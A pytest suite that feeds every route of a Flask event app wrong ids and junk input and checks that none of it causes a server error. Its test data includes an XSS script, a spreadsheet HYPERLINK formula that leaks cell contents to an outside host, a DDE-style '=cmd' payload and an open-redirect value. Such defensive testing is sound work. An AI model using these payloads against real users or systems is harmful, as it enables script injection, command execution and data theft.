"""Every route, fed wrong ids and junk input by every kind of visitor, answers without a 500.

The rule: bad input gets a clear message, wrong ids get 404, other people's data 403/404,
and sending the same form twice is harmless. The requests are generated from the URL map,
so a new route is covered the day it is added.
"""

from __future__ import annotations

import io
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

import pytest
from flask_babel import force_locale
from sqlalchemy import func, select, update
from werkzeug.routing import Rule

from eventapp.attendance.checkins import check_in
from eventapp.attendance.presence import record_presence
from eventapp.calendars import tokens
from eventapp.extensions import db
from eventapp.i18n import LANGUAGES
from eventapp.outbox.models import OutboxMessage
from eventapp.outbox.queue import queue_mail
from eventapp.programme.csv_import import COLUMNS as PROGRAMME_COLUMNS
from eventapp.registration.csv_export import IMPORT_COLUMNS
from eventapp.spreadsheets import carry
from eventapp.teams.models import EventMember, TeamInvitation
from eventapp.web import ERROR_PAGES
from tests.conftest import login
from tests.factories import PASSWORD

MISSING = 999_999
HUGE = 10**20  # beyond PostgreSQL's integer and bigint columns

LONG = "x" * 10_000
MARKUP = '<script>alert("x")</script><b onmouseover="y">bold</b>'
FORMULA = '=HYPERLINK("http://example.org/?leak="&A1,"Click")'

WRONG = "wrong value"
APP_LAYOUT = "css/app.css"
ERROR_PAGE_MARKERS = {
    403: "You do not have access to this page.",
    404: "There is nothing at this address.",
}


def _error_page_markers(status: int) -> set[str]:
    """The expected message in every language: the walk visits /language/<code> too, which
    switches the language of the pages after it."""
    if status not in ERROR_PAGE_MARKERS:
        return {""}
    markers = {ERROR_PAGE_MARKERS[status]}
    for code in LANGUAGES:
        with force_locale(code):
            markers.add(str(ERROR_PAGES[status][1]))
    return markers


# Query strings with junk filter values, for every GET.
JUNK_QUERIES = (
    "?status=zzz&page=-1&page=abc&day=2018-13-01&session=x&kinds=zzz&category=abc"
    "&country=1&level=zzz",
    f"?page={HUGE}&category={HUGE}&session={HUGE}&keep={HUGE}&day=2018-02-30&q={LONG}",
    "?q=%00&status=%00&day=%00&session=%00&country=%00&category=%00&keep=%00&next=%00",
    "?q=%3Cscript%3E&next=https://evil.example/&kinds=panel&kinds=%00&page=1e9&category=%C2%B2"
    "&keep=%C2%B2&session=%C2%B2",
)

# Form fields of every form in the app, by the kind of value they expect.
TEXT_FIELDS = (
    "slug", "title", "theme", "description", "venue", "city", "country", "timezone", "name",
    "honorific", "first_name", "last_name", "job_title", "email", "speaking_topic",
    "accessibility_needs", "gender_description", "new_organization_name",
    "new_organization_country", "message", "next", "password", "confirm", "content",
    "new-honorific", "new-first_name", "new-last_name", "new-job_title", "new-org_name",
    "new-org_country",
)
NUMBER_FIELDS = (
    "capacity", "planned_minutes", "existing-planned_minutes", "new-planned_minutes", "room",
    "existing-person", "category", "organization", "new-organization", "new-category",
    "new-org_category", "keep", "drop", "ids", "rows-0-category_id", "rows-0-min_percent",
    "rows-0-max_percent",
)
# Free text, where markup and formula-looking text are legitimate and must come out inert.
FREE_TEXT_FIELDS = (
    "title", "theme", "description", "venue", "city", "name", "first_name", "last_name",
    "job_title", "speaking_topic", "accessibility_needs", "message", "new-first_name",
    "new-last_name", "new-job_title", "new-org_name",
)
CHOICE_FIELDS = (
    "kind", "role", "existing-role", "new-role", "gender", "new-gender", "migrant_experience",
    "delegation_role", "status", "action", "direction", "new_organization_level",
    "new-org_governance_level",
)
DATE_FIELDS = ("start_date", "end_date", "day")
TIME_FIELDS = ("start_time", "end_time")
DATETIME_FIELDS = ("opens_at", "closes_at")
BOOLEAN_FIELDS = (
    "accept_warnings", "existing-accept_warnings", "new-accept_warnings", "wishes_to_speak",
    "consent_public_list", "auto_approve", "rows-0-required_on_panels",
    "requires_local_voice", "balance_is_public",
)

JUNK_BY_KIND = {
    TEXT_FIELDS: (LONG,),
    FREE_TEXT_FIELDS: (FORMULA + MARKUP,),
    NUMBER_FIELDS: ("abc", str(HUGE), "-1", "\u00b2"),  # the last is a superscript two
    CHOICE_FIELDS: ("zzz\x00",),
    DATE_FIELDS: ("2018-02-30",),
    TIME_FIELDS: ("25:61",),
    DATETIME_FIELDS: ("2018-02-30T25:61",),
}

# Done last, in this order: they take away what the other requests need.
DESTRUCTIVE = (
    "calendars.revoke_subscription", "registration.cancel", "organize.remove_slot",
    "organize.session_status", "organize.delete_room", "organize.unpublish_event",
    "organize.delete_event", "categories.retire", "categories.delete", "accounts.logout",
)


@dataclass
class World:
    """A populated event, another event, and the people who visit them."""

    real: dict[str, object]
    other_event: dict[str, object]
    other_registration_id: int
    base_form: dict[str, str]
    organizer: object
    participant: object
    failures: list[str] = field(default_factory=list)


def _csv(columns: tuple[str, ...], rows: list[list[str]]) -> bytes:
    lines = [",".join(columns)] + [",".join(f'"{cell}"' for cell in row) for row in rows]
    return "\r\n".join(lines).encode("utf-8")


def _junk_files() -> list[bytes]:
    """CSV uploads: junk rows under a real header (NUL bytes past the first 4 KB too).

    Files that are not text at all are the upload's own tests' business.
    """
    padding = ["Padding " * 60] * len(PROGRAMME_COLUMNS)
    programme = [
        padding,
        ["2018-02-30", "25:61", "10:00", LONG, "zzz", MARKUP, "zzz", "Ana\x00Example", FORMULA,
         "", "", "zzz", "ZZZ", "zzz", "zzz", str(HUGE)],
        ["2018-03-26", "10:00", "11:00", "Nul\x00session", "panel", "Room\x00", "panelist",
         "Bo\x00Example", "", "", "Org\x00", "", "US", "national", "", "-5"],
    ]
    huge_minutes = [
        ["2018-03-26", "12:00", "13:00", "Long talk", "panel", "Room Q", "panelist", "Al Long",
         "", "", "", "Academia", "", "", "", minutes]
        for minutes in (str(HUGE), "\u00b2", "2147483648")
    ]
    people = [
        ["pad@example.org", *["Padding " * 60] * (len(IMPORT_COLUMNS) - 1)],
        ["a\x00@example.org", "Ms", "Ana\x00", LONG, FORMULA, "Org\x00", "zzz", "Z1", "zzz",
         "zzz", "zzz"],
        [str(HUGE), "", "", "", "", "", "", "", "", "", ""],
    ]
    return [
        _csv(PROGRAMME_COLUMNS, programme),
        _csv(PROGRAMME_COLUMNS, huge_minutes[:1]),
        _csv(PROGRAMME_COLUMNS, huge_minutes[1:]),
        _csv(IMPORT_COLUMNS, people),
    ]


def _payloads(base: dict[str, str]) -> Iterator[tuple[str, dict[str, object]]]:
    """(description, form data): a valid base with one kind of field spoiled at a time."""
    yield "empty body", {}
    # Valid but for a NUL character, which PostgreSQL refuses in text.
    yield "NUL in free text", {**base, **{key: f"{base[key]}\x00" for key in FREE_TEXT_FIELDS}}
    for fields, values in JUNK_BY_KIND.items():
        for value in values:
            yield f"{fields[0]}-like fields = {value[:20]!r}", {
                **base, **dict.fromkeys(fields, value)}


def _import_payloads(base: dict[str, str]) -> Iterator[tuple[str, dict[str, object]]]:
    """Junk uploads and junk carried back by the confirmation of an import."""
    for text in ("", "=cmd|' /C calc'!A0"):
        yield f"content = carry({text[:10]!r})", {**base, "content": carry(text)}
    for index, data in enumerate(_junk_files()):
        yield f"junk file #{index}", {**base, "file": (io.BytesIO(data), "junk.csv")}
        # The same file carried back by a tampered confirmation, skipping the upload checks.
        yield f"content = junk file #{index}", {
            **base, "content": carry(data.decode("utf-8", errors="replace"))}


@pytest.fixture()
def world(factory) -> World:
    organizer = factory.user(email="organizer@example.org", role="organizer")
    participant = factory.user(email="participant@example.org")
    other_user = factory.user(email="other@example.org")

    event = factory.event("main-event", balance_is_public=True)
    rooms = [factory.room(event), factory.room(event)]
    sessions = [factory.session(event, room=rooms[0]), factory.session(event, room=rooms[1]),
                factory.session(event, title="Cancelled one", status="cancelled")]
    organization = factory.organization()
    speakers = [factory.slot(sessions[0], factory.person(organization=organization)),
                factory.slot(sessions[0], factory.person(category="academia"))]
    factory.slot(sessions[1], speakers[0].person, role="moderator")
    me = factory.person("Pat Participant", user=participant, email=participant.email,
                        organization=organization)
    mine = factory.registration(event, me)
    theirs = factory.registration(
        event, factory.person("Oli Other", user=other_user, email=other_user.email),
        category="academia", status="pending")
    factory.registration(event, speakers[1].person, category="academia", status="waitlisted")
    typed_in = factory.organization("Typed In By A Participant")
    typed_in.is_confirmed = False
    factory.registration(event, factory.person(organization=typed_in), status="pending")
    token = tokens.regenerate(participant.id).token
    tokens.regenerate(other_user.id)
    db.session.commit()

    other = factory.event("other-event")
    other_room = factory.room(other)
    other_session = factory.session(other, room=other_room)
    other_slot = factory.slot(other_session)
    other_registration = factory.registration(other, factory.person())
    other_typed_in = factory.organization("Typed In Elsewhere")
    other_typed_in.is_confirmed = False
    factory.registration(other, factory.person(organization=other_typed_in))
    # One failed message per event, so the mail page's retry has a real and a wrong id.
    message_ids = []
    # One check-in per event, so the desk's undo has a real and a wrong id.
    check_in_ids = [check_in(event, mine, desk="A", user_id=None).check_in.id,
                    check_in(other, other_registration, desk="A", user_id=None).check_in.id]
    # One presence per event, so the door's undo has a real and a wrong id.
    sessions[0].door_scanning = other_session.door_scanning = True
    presence_ids = [
        record_presence(event, sessions[0], mine, desk="A", user_id=None).presence.id,
        record_presence(other, other_session, other_registration, desk="A",
                        user_id=None).presence.id]
    db.session.commit()
    for event_id in (event.id, other.id):
        queue_mail("pat@example.org", "Subject", "Body.", kind="test", event_id=event_id)
        db.session.commit()
        message_ids.append(db.session.scalar(select(func.max(OutboxMessage.id))))
    db.session.execute(update(OutboxMessage.__table__).values(status="failed"))
    db.session.commit()

    # A team member and a pending invitation per event, for the team page's ids.
    member_ids, invitation_ids = [], []
    for team_event in (event, other):
        factory.member(team_event, role="viewer")
        db.session.add(TeamInvitation(event_id=team_event.id, email="new@example.org",
                                      role="chair", language="en",
                                      nonce=f"nonce-{team_event.id}"))
        db.session.commit()
        member_ids.append(db.session.scalar(select(func.max(EventMember.id))))
        invitation_ids.append(db.session.scalar(select(func.max(TeamInvitation.id))))

    categories = factory.categories()
    category_id = str(categories["government"].id)
    base_form = {
        "slug": event.slug, "title": "Robust title", "theme": "Theme", "description": "Text",
        "venue": "Venue", "city": "City", "country": "US", "timezone": "America/New_York",
        "start_date": "2018-03-26", "end_date": "2018-03-27", "name": "Room Z",
        "capacity": "50", "kind": "panel", "day": "2018-03-26", "start_time": "16:00",
        "end_time": "17:00", "room": str(rooms[0].id), "role": "panelist",
        "planned_minutes": "10", "existing-role": "panelist", "existing-planned_minutes": "10",
        "existing-person": str(me.id), "new-role": "panelist",
        "new-planned_minutes": "10", "new-first_name": "New", "new-last_name": "Speaker",
        "new-honorific": "Dr", "new-job_title": "Chair", "new-gender": "",
        "new-organization": "new", "new-category": "", "new-org_name": "New Org",
        "new-org_category": category_id, "new-org_country": "KE",
        "new-org_governance_level": "local", "honorific": "Ms", "first_name": "Pat",
        "last_name": "Participant", "job_title": "Officer", "email": participant.email,
        "delegation_role": "delegate", "wishes_to_speak": "y", "speaking_topic": "Topic",
        "accessibility_needs": "None", "consent_public_list": "y", "gender": "woman",
        "gender_description": "", "migrant_experience": "no", "password": "not the password",
        "confirm": "not the password", "category": category_id, "organization": "none",
        "new_organization_name": "", "new_organization_country": "",
        "new_organization_level": "national", "status": "approved", "action": "approved",
        "message": "Hello", "ids": str(theirs.id), "opens_at": "2018-01-01T09:00",
        "closes_at": "2030-01-01T09:00", "auto_approve": "y", f"quota_{category_id}": "50",
        "keep": str(me.id), "drop": str(speakers[1].person.id),
        "rows-0-category_id": category_id, "rows-0-min_percent": "10",
        "rows-0-max_percent": "60", "requires_local_voice": "y", "balance_is_public": "y",
        "direction": "down", "next": f"/events/{event.slug}/agenda",
        "into": str(organization.id),
        "content": carry("date,start,end,session\r\n2018-03-26,18:00,19:00,Imported\r\n"),
        **dict.fromkeys(BOOLEAN_FIELDS, "y"),
    }
    return World(
        real={"slug": event.slug, "session_id": sessions[0].id, "slot_id": speakers[0].id,
              "code": "fr",
              "room_id": rooms[0].id, "registration_id": mine.id, "token": token,
              "category_id": categories["academia"].id,
              "organization_id": typed_in.id, "message_id": message_ids[0],
              "check_in_id": check_in_ids[0], "presence_id": presence_ids[0],
              "member_id": member_ids[0], "invitation_id": invitation_ids[0]},
        other_event={"session_id": other_session.id, "slot_id": other_slot.id,
                     "room_id": other_room.id, "registration_id": other_registration.id,
                     "organization_id": other_typed_in.id, "message_id": message_ids[1],
                     "check_in_id": check_in_ids[1], "presence_id": presence_ids[1],
                     "member_id": member_ids[1], "invitation_id": invitation_ids[1]},
        other_registration_id=theirs.id,
        base_form=base_form,
        organizer=organizer,
        participant=participant,
    )


def _rules(app) -> list[Rule]:
    rules = [r for r in app.url_map.iter_rules() if r.endpoint != "static"]
    order = {endpoint: i + 1 for i, endpoint in enumerate(DESTRUCTIVE)}
    return sorted(rules, key=lambda r: (order.get(r.endpoint, 0), r.rule))


def _path(rule: Rule, values: dict[str, object]) -> str:
    values = {**values, **(rule.defaults or {})}
    _, path = rule.build({name: values[name] for name in rule.arguments}, append_unknown=False)
    return path


def _wrong_paths(rule: Rule, world: World) -> list[str]:
    """The rule's URL with each kind of wrong value in turn."""
    real = world.real
    variants: list[dict[str, object]] = []
    ints = [name for name in rule.arguments if name.endswith("_id")]
    if ints:
        variants += [{**real, **dict.fromkeys(ints, MISSING)},
                     {**real, **dict.fromkeys(ints, HUGE)}]
    if ints and "category_id" not in rule.arguments:
        # Categories belong to no event, so they have no other event's id to try.
        variants.append({**real, **world.other_event})
    if "registration_id" in rule.arguments and not rule.rule.startswith("/organize"):
        # Someone else's registration, which only organizers may see.
        variants.append({**real, "registration_id": world.other_registration_id})
    if "slug" in rule.arguments:
        # The other event's short name with this event's ids, where the rule has ids.
        slugs = ("no-such-event", "bad\x00slug", *(("other-event",) if ints else ()))
        variants += [{**real, "slug": slug} for slug in slugs]
    if "token" in rule.arguments:
        variants += [{**real, "token": token} for token in ("x" * 43, "\x00", LONG, "")]
    paths = [_path(rule, values) for values in variants]
    if ints:
        paths.append(_path(rule, {**real, **dict.fromkeys(ints, MISSING)}).replace(
            str(MISSING), "9" * 5000))
    return list(dict.fromkeys(paths))


def _check(world: World, client, method: str, path: str, what: str, **kwargs) -> None:
    """Send one request; note a 500 (or an exception escaping the view), a wrong value that
    shows a page, and error pages outside the app's layout."""
    label = f"{method} {path[:120]} [{what}]"
    try:
        response = client.open(path, method=method, **kwargs)
    except Exception as exc:  # the test client re-raises what the app let through
        db.session.rollback()
        world.failures.append(f"{label}: {type(exc).__name__}: {' '.join(str(exc).split())[:240]}")
        return
    status = response.status_code
    if status >= 500:
        world.failures.append(f"{label}: status {status}")
    elif what == WRONG and 200 <= status < 300:
        world.failures.append(f"{label}: {status} for an id or name that is not there")
    elif status >= 400 and response.mimetype == "text/html":
        body = response.get_data(as_text=True)
        # In the app's own layout (not a bare framework page), with the expected message.
        if APP_LAYOUT not in body or not any(m in body for m in _error_page_markers(status)):
            world.failures.append(f"{label}: {status} without the app's error page")


def _form_for(rule: Rule, data: dict[str, object]) -> dict[str, object]:
    """Fresh file objects for each request; a new short name where an event is created."""
    form = {key: (io.BytesIO(value[0].getvalue()), value[1]) if isinstance(value, tuple)
            else value for key, value in data.items()}
    if "slug" not in rule.arguments and "slug" in form:
        form["slug"] = "new-event"
    return form


def _run(world: World, client, focus: Callable[[str], bool]) -> None:
    """Real values on every rule; wrong values, junk forms and queries on the role's own.

    Elsewhere the role is refused before any input is read (the access control tests prove
    how) or another role's test sends the same junk, so one plain GET and POST is enough.
    """
    payloads = list(_payloads(world.base_form))
    import_payloads = payloads + list(_import_payloads(world.base_form))
    for rule in _rules(client.application):
        methods = sorted((rule.methods or set()) & {"GET", "POST"})
        reachable = focus(rule.rule)
        for path in _wrong_paths(rule, world) if reachable else ():
            for method in methods:
                _check(world, client, method, path, WRONG)
        real = _path(rule, world.real)
        if "GET" in methods:
            _check(world, client, "GET", real, "real values")
            for query in JUNK_QUERIES if reachable else ():
                _check(world, client, "GET", real + query, "junk query")
        if "POST" in methods and not reachable:
            _check(world, client, "POST", real, "empty body")
        elif "POST" in methods:
            forms = import_payloads if "/import" in rule.rule else payloads
            # The valid form last, twice: a double click is harmless.
            for what, data in [*forms, *[("base form, twice", world.base_form)] * 2]:
                _check(world, client, "POST", real, what, data=_form_for(rule, data))
    assert not world.failures, "\n".join(world.failures)


def test_anonymous_visitors_never_meet_a_server_error(client, world):
    _run(world, client, lambda rule: not rule.startswith(("/organize", "/me")))


def test_participants_never_meet_a_server_error(client, world):
    login(client, world.participant, PASSWORD)
    _run(world, client, lambda rule: not rule.startswith(("/organize", "/login", "/signup")))


def test_organizers_never_meet_a_server_error(client, world):
    login(client, world.organizer, PASSWORD)
    _run(world, client, lambda rule: rule.startswith("/organize"))
